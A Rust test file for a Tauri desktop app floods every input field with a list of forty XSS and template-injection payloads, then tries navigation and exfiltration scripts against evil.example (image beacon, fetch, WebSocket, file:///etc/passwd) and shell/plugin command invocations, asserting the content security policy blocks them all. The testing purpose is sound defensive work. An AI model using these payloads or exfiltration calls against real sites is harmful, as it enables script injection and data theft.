//! The page under attack from within: hostile text in every field, pages it must not go to, commands it must not call, and
//! places it must not reach (promises 40 and 41).

use std::{collections::BTreeSet, fs};

use serde::Deserialize;
use serde_json::{Value, json};

use crate::{
    driver::Window,
    office::{Account, OwnOffice},
    scene::Scene,
    stage::{Props, Stage},
};

/// What a text would run if it were taken for markup, script, style or an address. `ran` counts.
const PAYLOADS: [&str; 40] = [
    "<script>ran++</script>",
    "<script src=data:,ran++></script>",
    "<img src=x onerror=ran++>",
    "<img/src=x/onerror=ran++>",
    "<svg onload=ran++>",
    "<svg><script>ran++</script></svg>",
    "<svg><animate onbegin=ran++ attributeName=x dur=1s>",
    "<body onload=ran++>",
    "<iframe srcdoc='<script>parent.ran++</script>'></iframe>",
    "<iframe src=javascript:parent.ran++></iframe>",
    "<object data=javascript:ran++>",
    "<embed src=javascript:ran++>",
    "<a href=javascript:ran++ autofocus onfocus=ran++>x</a>",
    "<input autofocus onfocus=ran++>",
    "<details open ontoggle=ran++>",
    "<video><source onerror=ran++></video>",
    "<marquee onstart=ran++>",
    "<style>@import 'javascript:ran++';</style>",
    "<link rel=stylesheet href=javascript:ran++>",
    "<meta http-equiv=refresh content='0;url=javascript:ran++'>",
    "<base href=javascript:ran++//>",
    "<math><mtext><img src=x onerror=ran++></mtext></math>",
    "<template><img src=x onerror=ran++></template>",
    "<!--><img src=x onerror=ran++>-->",
    "<![CDATA[<img src=x onerror=ran++>]]>",
    "javascript:ran++",
    "java\tscript:ran++",
    "data:text/html,<script>ran++</script>",
    "vbscript:ran++",
    "{{constructor.constructor('ran++')()}}",
    "${ran++}",
    "#{ran++}",
    "<%= ran++ %>",
    "{@html '<img src=x onerror=ran++>'}",
    "**<img src=x onerror=ran++>**",
    "[x](javascript:ran++)",
    "\\u003cimg src=x onerror=ran++\\u003e",
    "&lt;img src=x onerror=ran++&gt;",
    "%3Cimg%20src=x%20onerror=ran++%3E",
    "\u{ff1c}img src=x onerror=ran++\u{ff1e}",
];

/// Ways out of where the text may stand.
const BEFORE: [&str; 5] = ["", "\">", "'>", "</textarea></title>", "\u{202e}\u{0}"];

/// An organisation with such a name.
const NAME: &str = "\"><img src=x onerror=ran++>";

/// Counts what runs and what the policy of the page refuses.
const WATCH: &str = "window.ran = 0; window.stays = true; window.reports = [];
    document.addEventListener('securitypolicyviolation', (one) => window.reports.push(one.effectiveDirective));";

/// Types every text into one field after the other, as quickly as the page takes them, and leaves the last one there.
const FLOOD: &str = "const [texts, done] = arguments;
    const kinds = ['text', 'search', 'email', 'password', 'url', 'textarea'];
    const fields = () => [...document.querySelectorAll('main input, main textarea')]
        .filter((one) => kinds.includes(one.type) && one.offsetParent !== null && !one.disabled);
    const pause = (time) => new Promise((resolve) => setTimeout(resolve, time));
    (async () => {
        let typed = 0;
        const count = fields().length;
        for (let number = 0; number < count; number++) {
            for (const text of texts) {
                const field = fields()[number];
                if (!field) break;
                field.focus();
                field.value = text;
                field.dispatchEvent(new Event('input', { bubbles: true }));
                typed++;
                await pause(3);
            }
            fields()[number]?.blur();
            await pause(300);
        }
        const strange = 'main script, main iframe, main object, main embed, main base, main meta, main link, main style, [onerror], [onload], [onfocus]';
        done({ fields: count, typed, ran: window.ran, reports: window.reports, strange: document.querySelectorAll(strange).length });
    })();";

/// What flooding a page came to.
#[derive(Debug, Default, Deserialize)]
struct Flood {
    fields: usize,
    typed: usize,
    ran: usize,
    reports: Vec<String>,
    strange: usize,
}

fn texts() -> Vec<String> {
    BEFORE.iter().flat_map(|before| PAYLOADS.map(|payload| format!("{before}{payload}"))).collect()
}

async fn watched(window: &Window) {
    window.ask(WATCH, vec![]).await;
}

/// A page that did run something would be noticed, and what the policy refuses is reported.
async fn the_watch_sees(window: &Window) {
    let planted = "document.body.insertAdjacentHTML('beforeend', '<img id=planted src=x onerror=ran++>');
        const script = document.createElement('script'); script.id = 'planted-too'; script.textContent = 'ran++';
        document.body.append(script); const style = document.createElement('div'); style.id = 'planted-style';
        style.setAttribute('style', 'color:red'); document.body.append(style)";
    window.ask(planted, vec![]).await;
    window.until("return window.reports.length >= 2").await;
    assert_eq!(window.ask("return window.ran", vec![]).await, json!(0), "the policy keeps planted script from running");
    window.ask("window.ran++; return true", vec![]).await;
    assert_eq!(window.ask("return window.ran", vec![]).await, json!(1), "what runs is counted");
    let away = "document.querySelectorAll('#planted, #planted-too, #planted-style').forEach((one) => one.remove());
        window.ran = 0; window.reports = []";
    window.ask(away, vec![]).await;
}

async fn flood(window: &Window, total: &mut Flood) {
    let found = window.client.execute_async(FLOOD, vec![json!(texts())]).await.expect("the page takes text");
    let page: Flood = serde_json::from_value(found).expect("counts");
    assert!(page.fields > 0, "no field on this page:\n{}", window.text("body").await);
    assert_eq!((page.ran, page.reports.len(), page.strange), (0, 0, 0), "{page:?}");
    total.fields += page.fields;
    total.typed += page.typed;
}

/// Where a page might be sent or reach, each as a script.
const AWAY: [&str; 14] = [
    "location.href = 'https://evil.example/'",
    "location.assign('http://localhost:9/')",
    "location.replace('data:text/html,x')",
    "location.href = 'file:///etc/passwd'",
    "location.href = 'javascript:ran++'",
    "location.href = 'about:blank'",
    "window.open('https://evil.example/')",
    "window.open('about:blank', '_self')",
    "Object.assign(document.createElement('a'), { href: 'https://evil.example/', target: '_blank' }).click()",
    "Object.assign(document.createElement('a'), { href: 'https://evil.example/', ping: 'https://evil.example/' }).click()",
    "const form = document.createElement('form'); form.action = 'https://evil.example/'; document.body.append(form); form.submit(); form.remove()",
    "const frame = document.createElement('iframe'); frame.src = 'https://evil.example/'; document.body.append(frame); frame.remove()",
    "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content=\"0;url=https://evil.example/\">')",
    "new Image().src = 'https://evil.example/?leak'",
];

/// Ways out over the network; each must be refused by the policy of the page.
const REACH: &str = "const done = arguments[0];
    const refused = (work) => new Promise((resolve) => { try { Promise.resolve(work()).then(() => resolve(false), () => resolve(true)) } catch { resolve(true) } });
    const socket = () => new Promise((resolve, reject) => { const one = new WebSocket('wss://evil.example/'); one.onopen = resolve; one.onerror = reject; });
    const asked = () => new Promise((resolve, reject) => { const one = new XMLHttpRequest(); one.open('GET', 'http://127.0.0.1:9/'); one.onload = resolve; one.onerror = reject; one.send(); });
    Promise.all([refused(() => fetch('https://evil.example/')), refused(() => fetch('http://127.0.0.1:9/', { mode: 'no-cors' })),
        refused(socket), refused(asked), refused(() => import('https://evil.example/x.js')),
        refused(() => eval('1')), refused(() => new Function('return 1')())]).then(done)";

#[tokio::test(flavor = "multi_thread")]
async fn nothing_that_is_typed_runs_and_the_page_goes_nowhere() {
    let office = OwnOffice::ready();
    let stage = Stage::with(Props { office: Some(&office.file()), ..Props::default() });
    let window = Window::open(&stage).await;
    let mut scene = Scene::new(&window, &stage, &office);
    watched(&window).await;
    the_watch_sees(&window).await;
    let mut total = Flood::default();
    every_field(&mut scene, &mut total).await;
    println!(
        "{} texts, {} fields, {} times typed: nothing ran, nothing was reported",
        texts().len(),
        total.fields,
        total.typed
    );
    goes_nowhere(&window).await;
    window.close().await;
}

/// Floods every page that has a field on the way to the hand-over, and mends it afterwards.
async fn every_field(scene: &mut Scene<'_>, total: &mut Flood) {
    let window = scene.window;
    window.chord(&[crate::keys::CONTROL], "n").await;
    window.see("[data-page=mailbox-question]").await;
    flood(window, total).await;
    // The name goes along into every page behind this one.
    scene.answer_for(NAME).await;
    for step in crate::person::PREPARE {
        window.see(&format!("[data-page={step}]")).await;
        if matches!(step, "tenant" | "client-secret") {
            flood(window, total).await;
        }
        scene.fill_in(step).await;
        scene.go_on(step).await;
    }
    scene.sign_in().await;
    window.press("#primary").await;
    window.see("[data-page=test]").await;
    flood(window, total).await;
    finish(scene).await;
    window.see("[data-page=hand-over] textarea").await;
    flood(window, total).await;
    window.press("footer [data-action=done]").await;
    window.see("[data-page=connections] [data-search]").await;
    flood(window, total).await;
}

/// From the test page, whose recipient is mended, to the hand-over.
async fn finish(scene: &Scene<'_>) {
    let window = scene.window;
    window.fill("[data-page=test] main input", &scene.office.account(Account::Mailbox).0).await;
    window.press("[data-action=send-test]").await;
    window.see("footer .filled[data-action=continue]").await;
    window.press("#primary").await;
    window.press("[data-action=save]").await;
}

async fn goes_nowhere(window: &Window) {
    let before = window.ask("return location.href", vec![]).await;
    for way in AWAY {
        let _ = window.client.execute(way, vec![]).await;
        // A navigation that was let through would have begun by the second frame.
        window.frame().await;
        window.frame().await;
        let stays = window.ask("return window.stays === true && location.href", vec![]).await;
        assert_eq!(stays, before, "{way}");
    }
    let refused = window.client.execute_async(REACH, vec![]).await.expect("an answer");
    assert_eq!(refused, json!(vec![true; 7]), "a way out over the network or into code");
    assert_eq!(window.client.windows().await.expect("windows").len(), 1, "a second window");
    assert_eq!(window.ask("return window.ran", vec![]).await, json!(0));
}

/// Every command of Tauri that a build script knows of, and some that only plugins would bring.
fn all_commands() -> BTreeSet<String> {
    let file = concat!(env!("CARGO_MANIFEST_DIR"), "/../gen/schemas/acl-manifests.json");
    let known: Value = serde_json::from_str(&fs::read_to_string(file).expect("the build wrote it")).expect("JSON");
    let mut all = BTreeSet::from(["plugin:fs|read_text_file", "plugin:shell|execute", "nonsense"].map(str::to_owned));
    for (plugin, manifest) in known.as_object().expect("plugins") {
        if plugin == "__app-acl__" {
            continue;
        }
        for permission in manifest["permissions"].as_object().expect("permissions").values() {
            for list in ["allow", "deny"] {
                let names = permission["commands"][list].as_array().expect("commands");
                let plugin = plugin.trim_start_matches("core:");
                all.extend(names.iter().map(|name| format!("plugin:{plugin}|{}", name.as_str().expect("a name"))));
            }
        }
    }
    all
}

#[tokio::test(flavor = "multi_thread")]
async fn the_page_may_call_three_commands_and_no_other() {
    let stage = Stage::set();
    let window = Window::open(&stage).await;
    let all: Vec<String> = all_commands().into_iter().collect();
    assert!(all.len() > 150, "{}", all.len());
    let call = "const [names, done] = arguments;
        const call = (name) => window.__TAURI_INTERNALS__.invoke(name, {}).then(() => name, () => null);
        Promise.all(names.map(call)).then((taken) => done(taken.filter((one) => one !== null)))";
    let taken = window.client.execute_async(call, vec![json!(all)]).await.expect("an answer");
    assert_eq!(taken, json!([]), "commands that the page may call");
    let words = window.client.execute_async(call, vec![json!(["words"])]).await.expect("an answer");
    assert_eq!(words, json!(["words"]), "what is allowed is let through in the same way");
    println!("{} commands of Tauri and its plugins are refused in the real window", all.len());
    window.close().await;
}
